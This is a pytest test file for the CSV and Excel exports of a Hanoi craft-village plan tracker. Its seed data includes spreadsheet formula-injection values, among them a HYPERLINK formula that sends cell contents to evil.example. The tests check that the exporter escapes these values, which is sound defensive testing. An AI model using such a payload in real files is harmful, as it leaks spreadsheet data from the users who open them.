"""Exports: the entries and the overview as CSV and Excel, read back as a user's tools read them.

Every test runs on a real ledger (SQLite and PostgreSQL through the ``ledger`` fixture)
and opens what was written: the workbook with openpyxl, the CSV with the csv module.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import tracemalloc
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import insert

from tracker.domain.entries import EntryKind, ValidEntry, validate_entry
from tracker.domain.plan import Plan
from tracker.i18n import t
from tracker.present.export import (
    ENTRY_COLUMNS,
    EXCEL_SHEET_ROWS,
    EntryFilters,
    FilterError,
    _csv_cell,
    entries_csv_bytes,
    escape_formula,
    export_entries_csv,
    export_filename,
    export_overview_csv,
    export_xlsx,
    headers,
    overview_csv_bytes,
    resolve_filters,
    xlsx_bytes,
)
from tracker.service import Overview, build_overview
from tracker.storage.ledger import Ledger, Removal, entries

AS_OF = dt.date(2017, 6, 30)
BOM = b"\xef\xbb\xbf"
FORMULAS = {
    "note": "=1+1",
    "village": "+SUM(A1)",
    "entered_by": "@cmd",
    "note2": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "village2": "-2+3",
}


def _record(plan: Plan, ledger: Ledger, target_id: str, quantity: object, day: str, **fields: Any) -> int:
    fields.setdefault("entered_by", "Trần Lan")
    return ledger.record(validate_entry(plan, target_id=target_id, quantity=quantity, ref_date=day, **fields))


def seed(plan: Plan, ledger: Ledger) -> dict[str, int]:
    """A small ledger as staff would leave it: reports in several districts, a decimal
    amount, a correction written as a negative adjustment, a deleted entry, and notes,
    villages and names that look like spreadsheet formulas."""
    ids = {
        "chuong_my": _record(
            plan,
            ledger,
            "workers-trained",
            "450",
            "2017-03-15",
            district="Chương Mỹ",
            village="Làng mây tre đan Phú Vinh",
            note="Lớp đào tạo tháng 3 — 450 học viên",
        ),
        "thuong_tin": _record(
            plan, ledger, "workers-trained", 1200, "2017-05-20", district="Thường Tín", entered_by="Nguyễn Thị Hoa"
        ),
        "city_brands": _record(plan, ledger, "village-brands", 3, "2017-04-01"),
        "exports": _record(plan, ledger, "craft-village-exports", "175,25", "2017-06-30", district="Hoàn Kiếm"),
        "formulas": _record(
            plan,
            ledger,
            "managers-trained",
            7,
            "2017-02-10",
            district="Ba Vì",
            note=FORMULAS["note"],
            village=FORMULAS["village"],
            entered_by=FORMULAS["entered_by"],
        ),
        "formulas2": _record(
            plan,
            ledger,
            "fair-participants",
            12,
            "2017-05-02",
            district="Gia Lâm",
            note=FORMULAS["note2"],
            village=FORMULAS["village2"],
            entered_by="-1",
        ),
        "deleted": _record(plan, ledger, "workers-trained", 999, "2017-04-10", district="Ba Vì"),
    }
    ledger.apply(removals=[Removal(ids["deleted"], 1)], by="Trần Lan")
    # the district reports 1650 in all but the true total at 30/06 is 1000: an adjustment of -650
    correction = validate_entry(
        plan,
        target_id="workers-trained",
        quantity=1000,
        ref_date=AS_OF,
        entered_by="Lê Minh",
        note="Số liệu chốt quý II",
    )
    adjustment = ledger.set_total(correction)
    assert adjustment is not None
    ids["adjustment"] = adjustment
    return ids


def workbook(plan: Plan, ledger: Ledger, filters: EntryFilters | None = None, lang: str = "vi") -> Workbook:
    overview = build_overview(plan, ledger, AS_OF)
    return load_workbook(io.BytesIO(xlsx_bytes(plan, ledger, overview, filters, lang)))  # type: ignore[arg-type]


def sheet_rows(sheet: Worksheet) -> list[list[Any]]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def entries_by_id(sheet: Worksheet) -> dict[int, dict[str, Any]]:
    header, *rows = sheet_rows(sheet)
    return {row[0]: dict(zip(header, row, strict=True)) for row in rows}


def excel_text(value: str) -> str:
    """A cell's text as Excel shows it: a control character is stored as ``_xHHHH_``
    (openpyxl leaves it so in an inline string, Excel and LibreOffice decode it)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found.group(1), 16)), value)


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def csv_entries(
    plan: Plan, ledger: Ledger, filters: EntryFilters | None = None, lang: str = "vi"
) -> list[dict[str, str]]:
    header, *rows = read_csv(entries_csv_bytes(plan, ledger, filters, lang))  # type: ignore[arg-type]
    return [dict(zip(header, row, strict=True)) for row in rows]


# --- the workbook ----------------------------------------------------------------------


def test_workbook_overview_has_the_dashboard_numbers(plan: Plan, ledger: Ledger) -> None:
    seed(plan, ledger)
    overview = build_overview(plan, ledger, AS_OF)
    book = workbook(plan, ledger)

    assert book.sheetnames == ["Tổng quan", "Bản ghi", "Thông tin"]
    sheet = book["Tổng quan"]
    header, *rows = sheet_rows(sheet)
    assert header == [
        "Mã chỉ tiêu",
        "Chỉ tiêu",
        "Tình trạng",
        "Mục tiêu tối thiểu",
        "Mục tiêu tối đa",
        "Đơn vị",
        "Đã đạt",
        "% mục tiêu (tối thiểu)",
        "% mức tối đa",
        "Cần đạt đến nay",
        "Dự kiến cuối kỳ",
        "Tính đến ngày",
    ]
    assert [row[0] for row in rows] == [target.id for target, _ in overview.targets]
    for (target, progress), row in zip(overview.targets, rows, strict=True):
        cells = dict(zip(header, row, strict=True))
        assert cells["Chỉ tiêu"] == target.title.vi
        assert cells["Tình trạng"] == t(f"status.{progress.status.value}", "vi")
        assert cells["Mục tiêu tối thiểu"] == progress.goal_min
        assert cells["Mục tiêu tối đa"] == progress.goal_max
        assert cells["Đã đạt"] == progress.achieved
        assert cells["Cần đạt đến nay"] == pytest.approx(progress.expected, abs=0.001)
        assert cells["Dự kiến cuối kỳ"] == pytest.approx(progress.projected, abs=0.001)
        assert cells["% mục tiêu (tối thiểu)"] == pytest.approx(progress.percent_of_min)
        assert cells["Tính đến ngày"] == dt.datetime(2017, 6, 30)
    workers = dict(zip(header, rows[0], strict=True))
    assert (workers["Đã đạt"], workers["Mục tiêu tối thiểu"]) == (1000, 30000)  # 450 + 1200 - 650
    brands = dict(zip(header, rows[2], strict=True))
    assert (brands["Mục tiêu tối thiểu"], brands["Mục tiêu tối đa"], brands["Đã đạt"]) == (10, 15, 3)
    assert brands["% mức tối đa"] == pytest.approx(3 / 15)
    # numbers are numbers Excel can sum, shown with thousands separators; percents as percents
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type == "n" for cell in row[3:5] + row[6:8] + row[9:11])
        assert row[3].number_format == "#,##0"
        assert row[7].number_format == "0.0%"
        assert row[11].is_date and row[11].number_format == "dd/mm/yyyy"


def test_workbook_entries_sheet_has_every_live_entry_exactly(plan: Plan, ledger: Ledger) -> None:
    ids = seed(plan, ledger)
    sheet = load_workbook(io.BytesIO(xlsx_bytes(plan, ledger, build_overview(plan, ledger, AS_OF))))["Bản ghi"]
    rows = entries_by_id(sheet)

    live = list(ledger.entries_where())
    assert sorted(rows) == sorted(entry.id for entry in live)
    assert ids["deleted"] not in rows
    for entry in live:
        assert Decimal(str(rows[entry.id]["Số lượng"])) == entry.quantity
    assert rows[ids["exports"]]["Số lượng"] == 175.25
    adjustment = rows[ids["adjustment"]]
    assert adjustment["Số lượng"] == -650
    assert adjustment["Loại bản ghi"] == "Điều chỉnh tổng"
    assert adjustment["Ghi chú"] == "Số liệu chốt quý II"
    chuong_my = rows[ids["chuong_my"]]
    assert chuong_my["Ngày"] == dt.datetime(2017, 3, 15)
    assert chuong_my["Chỉ tiêu"] == "Đào tạo nghề, truyền nghề cho lao động"
    assert chuong_my["Đơn vị"] == "lao động"
    assert chuong_my["Quận/huyện"] == "Chương Mỹ"
    assert chuong_my["Làng nghề"] == "Làng mây tre đan Phú Vinh"
    assert chuong_my["Người nhập"] == "Trần Lan"
    assert chuong_my["Loại bản ghi"] == "Báo cáo"
    assert rows[ids["city_brands"]]["Quận/huyện"] == "Toàn thành phố"
    # the quantities add up in the sheet as in the ledger
    workers = [r["Số lượng"] for r in rows.values() if r["Mã chỉ tiêu"] == "workers-trained"]
    assert sum(workers) == 1000

    for row in sheet.iter_rows(min_row=2):
        date, quantity, entered_at = row[3], row[4], row[11]
        assert date.is_date and date.number_format == "dd/mm/yyyy"
        assert quantity.data_type == "n"
        assert quantity.number_format == ("#,##0.###" if quantity.value == 175.25 else "#,##0")
        assert entered_at.is_date and entered_at.number_format == "dd/mm/yyyy hh:mm"
        # entry times are shown in Hanoi time, within a minute of now
        stored = ledger.entry(row[0].value)
        assert stored is not None
        hanoi = stored.entered_at.astimezone(dt.timezone(dt.timedelta(hours=7))).replace(tzinfo=None)
        assert abs(entered_at.value - hanoi) < dt.timedelta(seconds=1)


def test_workbook_is_laid_out_for_reading(plan: Plan, ledger: Ledger) -> None:
    seed(plan, ledger)
    book = workbook(plan, ledger)
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.b for cell in sheet[1])
    entries_sheet = book["Bản ghi"]
    assert entries_sheet.auto_filter.ref == f"A1:M{entries_sheet.max_row}"
    widths = {letter: dimension.width for letter, dimension in entries_sheet.column_dimensions.items()}
    assert widths["C"] >= 40 and widths["I"] >= 40  # target titles and notes are long
    assert 10 <= widths["D"] <= 14  # a date


def test_workbook_about_sheet_names_the_plan_date_and_filters(plan: Plan, ledger: Ledger) -> None:
    seed(plan, ledger)
    filters = resolve_filters(plan, target_id="workers-trained", districts=["chương mỹ", "toàn thành phố"])
    overview = build_overview(plan, ledger, AS_OF)
    out = io.BytesIO()
    moment = dt.datetime(2017, 7, 1, 2, 30, tzinfo=dt.UTC)
    counts = export_xlsx(plan, ledger, overview, filters, "vi", out, exported_at=moment)
    about = dict(sheet_rows(load_workbook(io.BytesIO(out.getvalue()))["Thông tin"])[1:])

    assert about["Kế hoạch"] == plan.title.vi
    assert about["Tính đến ngày"] == dt.datetime(2017, 6, 30)
    assert about["Thời điểm xuất (giờ Hà Nội)"] == dt.datetime(2017, 7, 1, 9, 30)
    assert about["Lọc theo chỉ tiêu"] == "Đào tạo nghề, truyền nghề cho lao động (workers-trained)"
    assert about["Lọc theo quận/huyện"] == "Chương Mỹ, Toàn thành phố"
    assert (about["Từ ngày"], about["Đến ngày"]) == ("–", "–")
    assert about["Số bản ghi đã xuất"] == counts.entries == 2  # Chương Mỹ and the city-wide adjustment
    assert counts.targets == 6


def test_workbook_in_english(plan: Plan, ledger: Ledger) -> None:
    ids = seed(plan, ledger)
    book = workbook(plan, ledger, lang="en")
    assert book.sheetnames == ["Overview", "Entries", "About"]
    header = sheet_rows(book["Entries"])[0]
    assert header == [
        "Entry id",
        "Target id",
        "Target",
        "Date",
        "Quantity",
        "Unit",
        "District",
        "Village",
        "Note",
        "Entry kind",
        "Entered by",
        "Entered at (Hanoi time)",
        "Version",
    ]
    rows = entries_by_id(book["Entries"])
    assert rows[ids["city_brands"]]["District"] == "City-wide"
    assert rows[ids["adjustment"]]["Entry kind"] == "Total adjustment"
    assert rows[ids["chuong_my"]]["Target"] == "Craft training and transmission for workers"
    overview = sheet_rows(book["Overview"])
    assert overview[0][:3] == ["Target id", "Target", "Status"]
    statuses = {row[2] for row in overview[1:]}
    assert statuses <= {
        t(f"status.{s}", "en")
        for s in ("achieved", "on_track", "needs_acceleration", "off_track", "not_started", "missed")
    }
    assert sheet_rows(book["About"])[1][0] == "Plan"


# --- filters ---------------------------------------------------------------------------


def test_filters_restrict_the_entries_in_both_formats(plan: Plan, ledger: Ledger) -> None:
    ids = seed(plan, ledger)
    cases = {
        "one target": (EntryFilters(target_id="workers-trained"), {"chuong_my", "thuong_tin", "adjustment"}),
        "districts": (EntryFilters(districts=("Chương Mỹ", "Ba Vì")), {"chuong_my", "formulas"}),
        "city-wide": (EntryFilters(districts=(None,)), {"city_brands", "adjustment"}),
        "date range": (
            EntryFilters(start=dt.date(2017, 4, 1), end=dt.date(2017, 5, 20)),
            {"city_brands", "thuong_tin", "formulas2"},
        ),
        "all together": (
            EntryFilters("workers-trained", ("Thường Tín", None), dt.date(2017, 5, 1), dt.date(2017, 6, 30)),
            {"thuong_tin", "adjustment"},
        ),
        "nothing matches": (EntryFilters(target_id="machinery-projects"), set()),
    }
    for name, (filters, expected) in cases.items():
        wanted = {ids[key] for key in expected}
        in_csv = {int(row["Mã bản ghi"]) for row in csv_entries(plan, ledger, filters)}
        in_xlsx = set(entries_by_id(workbook(plan, ledger, filters)["Bản ghi"]))
        assert in_csv == wanted, name
        assert in_xlsx == wanted, name


def test_resolve_filters_forgives_spelling_and_explains_mistakes(plan: Plan) -> None:
    filters = resolve_filters(
        plan,
        target_id="workers-trained",
        districts=["chương  mỹ", "Toàn thành phố"],
        start="01/04/2017",
        end="2017-06-30",
    )
    assert filters == EntryFilters("workers-trained", ("Chương Mỹ", None), dt.date(2017, 4, 1), dt.date(2017, 6, 30))

    with pytest.raises(FilterError) as caught:
        resolve_filters(plan, target_id="workers", districts=["Quận 1"], start="31/02/2017", end="hôm qua")
    assert caught.value.render("vi") == [
        "Chỉ tiêu: không có chỉ tiêu 'workers' trong kế hoạch",
        "Quận/huyện: 'Quận 1' không phải quận, huyện, thị xã của Hà Nội năm 2017",
        "Từ ngày: '31/02/2017' không phải là ngày hợp lệ (dd/mm/yyyy hoặc yyyy-mm-dd)",
        "Đến ngày: 'hôm qua' không phải là ngày hợp lệ (dd/mm/yyyy hoặc yyyy-mm-dd)",
    ]
    with pytest.raises(FilterError) as caught:
        resolve_filters(plan, start="2017-06-30", end="2017-04-01")
    assert caught.value.render("en") == ["To: the end date 01/04/2017 is before the start date 30/06/2017"]


# --- formula injection -----------------------------------------------------------------


def test_formula_looking_text_is_escaped_and_numbers_are_not(plan: Plan, ledger: Ledger) -> None:
    ids = seed(plan, ledger)

    rows = {int(row["Mã bản ghi"]): row for row in csv_entries(plan, ledger)}
    assert rows[ids["formulas"]]["Ghi chú"] == "'=1+1"
    assert rows[ids["formulas"]]["Làng nghề"] == "'+SUM(A1)"
    assert rows[ids["formulas"]]["Người nhập"] == "'@cmd"
    assert rows[ids["formulas2"]]["Ghi chú"] == "'" + FORMULAS["note2"]
    assert rows[ids["formulas2"]]["Làng nghề"] == "'-2+3"
    assert rows[ids["formulas2"]]["Người nhập"] == "'-1"
    assert rows[ids["adjustment"]]["Số lượng"] == "-650"  # a number, not escaped text
    assert rows[ids["chuong_my"]]["Ghi chú"] == "Lớp đào tạo tháng 3 — 450 học viên"  # ordinary text untouched

    book = workbook(plan, ledger)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}"
    cells = entries_by_id(book["Bản ghi"])
    assert cells[ids["formulas"]]["Ghi chú"] == "'=1+1"
    assert cells[ids["formulas"]]["Làng nghề"] == "'+SUM(A1)"
    assert cells[ids["formulas"]]["Người nhập"] == "'@cmd"
    assert cells[ids["formulas2"]]["Ghi chú"] == "'" + FORMULAS["note2"]
    assert cells[ids["formulas2"]]["Làng nghề"] == "'-2+3"
    assert cells[ids["adjustment"]]["Số lượng"] == -650


def test_text_beginning_with_a_tab_or_carriage_return_is_escaped(plan: Plan, ledger: Ledger) -> None:
    """Validation strips such text; an entry written by an older import may still hold it."""
    raw = ValidEntry(
        "workers-trained", dt.date(2017, 3, 1), Decimal(5), None, "\r=2+2", "\t=1+1", "#N/A", EntryKind.report
    )
    entry_id = ledger.record(raw)

    (row,) = csv_entries(plan, ledger)
    assert (row["Ghi chú"], row["Làng nghề"]) == ("'\t=1+1", "'\r=2+2")
    cells = entries_by_id(workbook(plan, ledger)["Bản ghi"])[entry_id]
    assert cells["Ghi chú"] == "'\t=1+1"
    # written as Excel writes a carriage return (_x000D_), which Excel reads back as one
    assert excel_text(cells["Làng nghề"]) == "'\r=2+2"
    assert cells["Người nhập"] == "#N/A"  # kept as text, not turned into an Excel error


# --- CSV -------------------------------------------------------------------------------


def test_entries_csv_opens_in_excel_with_vietnamese_intact(plan: Plan, ledger: Ledger) -> None:
    ids = seed(plan, ledger)
    data = entries_csv_bytes(plan, ledger)

    assert data.startswith(BOM)
    assert b"\r\n" in data and b"\n" not in data.replace(b"\r\n", b"")
    header, *rows = read_csv(data)
    assert header[:6] == ["Mã bản ghi", "Mã chỉ tiêu", "Chỉ tiêu", "Ngày", "Số lượng", "Đơn vị"]
    by_id = {int(row[0]): dict(zip(header, row, strict=True)) for row in rows}
    assert len(by_id) == 7
    chuong_my = by_id[ids["chuong_my"]]
    assert chuong_my["Chỉ tiêu"] == "Đào tạo nghề, truyền nghề cho lao động"  # comma inside: quoted
    assert chuong_my["Làng nghề"] == "Làng mây tre đan Phú Vinh"
    assert chuong_my["Ghi chú"] == "Lớp đào tạo tháng 3 — 450 học viên"
    assert chuong_my["Ngày"] == "2017-03-15"
    assert chuong_my["Số lượng"] == "450"
    assert chuong_my["Thời điểm nhập (giờ Hà Nội)"][:4].isdigit()
    assert by_id[ids["exports"]]["Số lượng"] == "175.25"
    assert by_id[ids["thuong_tin"]]["Số lượng"] == "1200"  # no thousands separator to misread
    assert by_id[ids["city_brands"]]["Quận/huyện"] == "Toàn thành phố"


def test_overview_csv_in_both_languages(plan: Plan, ledger: Ledger) -> None:
    seed(plan, ledger)
    overview = build_overview(plan, ledger, AS_OF)

    header, *rows = read_csv(overview_csv_bytes(overview))
    assert header[:4] == ["Mã chỉ tiêu", "Chỉ tiêu", "Tình trạng", "Mục tiêu tối thiểu"]
    cells = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert list(cells) == [target.id for target, _ in overview.targets]
    workers = cells["workers-trained"]
    progress = overview.progress_of("workers-trained")
    assert workers["Đã đạt"] == "1000"
    assert workers["Mục tiêu tối thiểu"] == workers["Mục tiêu tối đa"] == "30000"
    assert float(workers["Cần đạt đến nay"]) == pytest.approx(progress.expected, abs=0.001)
    assert workers["% mục tiêu (tối thiểu)"] == "3.33"  # percentage points
    assert workers["% mức tối đa"] == ""  # only a range has a maximum of its own
    assert workers["Tính đến ngày"] == "2017-06-30"
    assert workers["Tình trạng"] == t(f"status.{progress.status.value}", "vi")
    assert cells["village-brands"]["% mức tối đa"] == "20"

    out = io.BytesIO()
    assert export_overview_csv(overview, "en", out) == 6
    header, *rows = read_csv(out.getvalue())
    assert header == [
        "Target id",
        "Target",
        "Status",
        "Goal minimum",
        "Goal maximum",
        "Unit",
        "Achieved",
        "% of goal (minimum)",
        "% of maximum",
        "Expected by now",
        "Projected at period end",
        "As of",
    ]
    assert rows[0][1] == "Craft training and transmission for workers"
    assert "Đào tạo" not in out.getvalue().decode("utf-8-sig")


def test_export_into_a_file_leaves_it_open_and_counts_rows(plan: Plan, ledger: Ledger, tmp_path: Path) -> None:
    seed(plan, ledger)
    path = tmp_path / "ban-ghi.csv"
    with path.open("wb") as out:
        assert export_entries_csv(plan, ledger, EntryFilters(target_id="workers-trained"), "vi", out) == 3
        assert not out.closed
    assert path.read_bytes() == entries_csv_bytes(plan, ledger, EntryFilters(target_id="workers-trained"))
    assert export_filename(plan, "entries", "csv", AS_OF) == "hanoi-craft-villages-2017-entries-2017-06-30.csv"


def test_an_empty_ledger_exports_headers_and_every_target(plan: Plan, ledger: Ledger) -> None:
    assert read_csv(entries_csv_bytes(plan, ledger))[1:] == []
    book = workbook(plan, ledger)
    assert sheet_rows(book["Bản ghi"])[1:] == []
    overview = sheet_rows(book["Tổng quan"])[1:]
    assert len(overview) == len(plan.targets)
    assert all(row[6] == 0 for row in overview)


# --- large ledgers ---------------------------------------------------------------------


def _fill(ledger: Ledger, count: int) -> None:
    now = dt.datetime.now(dt.UTC)
    rows = [
        {
            "target_id": "workers-trained",
            "ref_date": dt.date(2017, 1, 1) + dt.timedelta(days=i % 365),
            "quantity_milli": 1000 * (i % 50 + 1),
            "district": "Ba Vì",
            "village": f"Làng {i % 300}",
            "note": "Báo cáo định kỳ",
            "entered_by": "Trần Lan",
            "entered_at": now,
            "kind": "report",
            "version": 1,
            "deleted": False,
        }
        for i in range(count)
    ]
    with ledger.database.engine.begin() as connection:
        connection.execute(insert(entries), rows)


def _peak_bytes(export: Any) -> int:
    tracemalloc.start()
    try:
        export()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_a_large_ledger_is_streamed_not_held_in_memory(plan: Plan, sqlite_url: str, tmp_path: Path) -> None:
    """Memory stays flat however many entries there are: 10 000 entries held as rows would
    take about 8 MB (and a workbook built in memory 7 MB for 1 650 of them); streamed,
    under 2 MB is enough. (The xlsx part is smaller only because tracemalloc slows openpyxl.)"""
    ledger = Ledger(sqlite_url)
    try:
        _fill(ledger, 10_000)
        overview: Overview = build_overview(plan, ledger, AS_OF)
        csv_path, xlsx_path = tmp_path / "big.csv", tmp_path / "big.xlsx"
        two_months = EntryFilters(start=dt.date(2017, 1, 1), end=dt.date(2017, 2, 28))

        def to_csv() -> None:
            with csv_path.open("wb") as out:
                assert export_entries_csv(plan, ledger, None, "vi", out) == 10_000

        def to_xlsx() -> None:
            with xlsx_path.open("wb") as out:
                assert export_xlsx(plan, ledger, overview, two_months, "vi", out).entries == 1_652

        assert _peak_bytes(to_csv) < 5_000_000
        assert _peak_bytes(to_xlsx) < 4_000_000
        assert csv_path.read_bytes().count(b"\r\n") == 10_001
        sheet = load_workbook(xlsx_path, read_only=True)["Bản ghi"]
        assert sum(1 for _ in sheet.iter_rows(values_only=True)) == 1_653
    finally:
        ledger.dispose()


# --- the fast paths write what the per-cell path writes ---------------------------------

TRICKY = {
    "comma and quotes": 'Làng "Vạn Phúc", lụa',
    "line breaks": "dòng một\ndòng hai\r\nba",
    "spaces at the ends": "  cách đầu và cuối  ",
    "markup": "<b>đậm</b> & <i>nghiêng</i>",
    "looks escaped": "_x0041_ giữ nguyên",
    "formula": "=SUM(A1:A9)",
}


def _typed_values(plan: Plan, row: Any, lang: str) -> list[Any]:
    """An entry's typed values in ENTRY_COLUMNS order, from Ledger.entries_where's EntryRow,
    the way the export made them before it read plain rows."""
    item = plan.recordable_by_id().get(row.target_id)
    return [
        row.id,
        row.target_id,
        item.title.in_(lang) if item else row.target_id,  # type: ignore[arg-type]
        row.ref_date,
        row.quantity,
        item.unit.in_(lang) if item else None,  # type: ignore[arg-type]
        row.district or t("district.city_wide", lang),
        row.village,
        row.note,
        t(f"entry.kind.{row.kind.value}", lang),
        row.entered_by,
        row.entered_at.astimezone(dt.timezone(dt.timedelta(hours=7))).replace(tzinfo=None),
        row.version,
    ]


def _seed_tricky(plan: Plan, ledger: Ledger) -> None:
    seed(plan, ledger)
    for n, (name, text) in enumerate(TRICKY.items()):
        raw = ValidEntry(
            "craft-village-exports",
            dt.date(2017, 5, 1 + n),
            Decimal("-0.5") if n % 2 else Decimal("1234.001"),
            "Đông Anh",
            text,
            f"{name}: {text}",
            text,
            EntryKind.report,
        )
        ledger.record(raw)


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_the_entries_csv_is_byte_for_byte_what_csv_writer_makes_of_each_cell(
    plan: Plan, ledger: Ledger, lang: str
) -> None:
    """The CSV is written a line at a time from plain rows (a million rows through
    csv.writer and a Decimal each cost more than reading them): the bytes must be those
    of every entry's cells written by csv.writer, in Ledger.entries_where's order,
    quotes, line breaks, formulas and negative decimals included."""
    _seed_tricky(plan, ledger)
    expected = io.StringIO()
    writer = csv.writer(expected, lineterminator="\r\n")
    writer.writerow([escape_formula(h) for h in headers(ENTRY_COLUMNS, lang)])  # type: ignore[arg-type]
    for row in ledger.entries_where():
        values = _typed_values(plan, row, lang)
        writer.writerow([_csv_cell(column.kind, value) for column, value in zip(ENTRY_COLUMNS, values, strict=True)])

    data = entries_csv_bytes(plan, ledger, lang=lang)  # type: ignore[arg-type]
    assert data == BOM + expected.getvalue().encode("utf-8")
    rows = {row["Làng nghề" if lang == "vi" else "Village"]: row for row in csv_entries(plan, ledger, lang=lang)}
    assert rows["'" + TRICKY["formula"]]["Số lượng" if lang == "vi" else "Quantity"] == "-0.5"


def test_the_workbook_reads_back_every_text_as_typed(plan: Plan, ledger: Ledger) -> None:
    _seed_tricky(plan, ledger)
    rows = entries_by_id(workbook(plan, ledger)["Bản ghi"])
    for entry in ledger.entries_where():
        shown = rows[entry.id]
        for field_name, header in (("village", "Làng nghề"), ("note", "Ghi chú"), ("entered_by", "Người nhập")):
            value = getattr(entry, field_name)
            expected = None if value is None else escape_formula(value)
            assert (None if shown[header] is None else excel_text(shown[header])) == expected, (entry.id, header)
        assert Decimal(str(shown["Số lượng"])) == entry.quantity


# --- more entries than a sheet holds ----------------------------------------------------


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_entries_beyond_a_sheet_continue_on_further_sheets_and_the_about_sheet_says_so(
    plan: Plan, ledger: Ledger, lang: str
) -> None:
    """Excel's sheet holds 1.048.576 rows; here a sheet of 4 rows (a header and 3
    entries) stands for it: 7 entries make three entries sheets of 3, 3 and 1."""
    seed(plan, ledger)
    live = [entry.id for entry in ledger.entries_where()]
    assert len(live) == 7
    out = io.BytesIO()
    overview = build_overview(plan, ledger, AS_OF)
    counts = export_xlsx(plan, ledger, overview, None, lang, out, sheet_rows=4)  # type: ignore[arg-type]
    book = load_workbook(io.BytesIO(out.getvalue()))

    entries_name, about_name = t("export.sheet.entries", lang), t("export.sheet.about", lang)
    parts = [entries_name, f"{entries_name} (2)", f"{entries_name} (3)"]
    assert book.sheetnames == [t("export.sheet.overview", lang), *parts, about_name]
    assert counts.entries == 7 and counts.entry_sheets == tuple(parts)
    seen: list[int] = []
    for name, size in zip(parts, (3, 3, 1), strict=True):
        sheet = book[name]
        header, *rows = sheet_rows(sheet)
        assert header == headers(ENTRY_COLUMNS, lang)  # type: ignore[arg-type]
        assert len(rows) == size
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:M{size + 1}"
        seen += [row[0] for row in rows]
    assert seen == live  # every entry once, in the ledger's order across the sheets

    about = dict(sheet_rows(book[about_name])[1:])
    said = about[t("export.about.entry_sheets", lang)]
    if lang == "vi":
        assert said == (
            "7 bản ghi nhiều hơn một trang tính Excel chứa được (4 dòng, kể cả dòng tiêu đề): "
            "chúng được chia thành 3 trang tính theo thứ tự: Bản ghi, Bản ghi (2), Bản ghi (3)."
        )
    else:
        assert said == (
            "7 entries are more than one Excel sheet holds (4 rows, the header row included): "
            "they are split over 3 sheets, in order: Entries, Entries (2), Entries (3)."
        )
    assert about[t("export.about.entries", lang)] == 7


def test_a_workbook_that_fits_one_sheet_says_nothing_of_splitting(plan: Plan, ledger: Ledger) -> None:
    seed(plan, ledger)
    out = io.BytesIO()
    counts = export_xlsx(plan, ledger, build_overview(plan, ledger, AS_OF), None, "vi", out, sheet_rows=9)
    book = load_workbook(io.BytesIO(out.getvalue()))
    assert counts.entry_sheets == ("Bản ghi",)
    assert book.sheetnames == ["Tổng quan", "Bản ghi", "Thông tin"]
    assert t("export.about.entry_sheets", "vi") not in dict(sheet_rows(book["Thông tin"])[1:])
    assert EXCEL_SHEET_ROWS == 1_048_576  # Excel's limit is the default
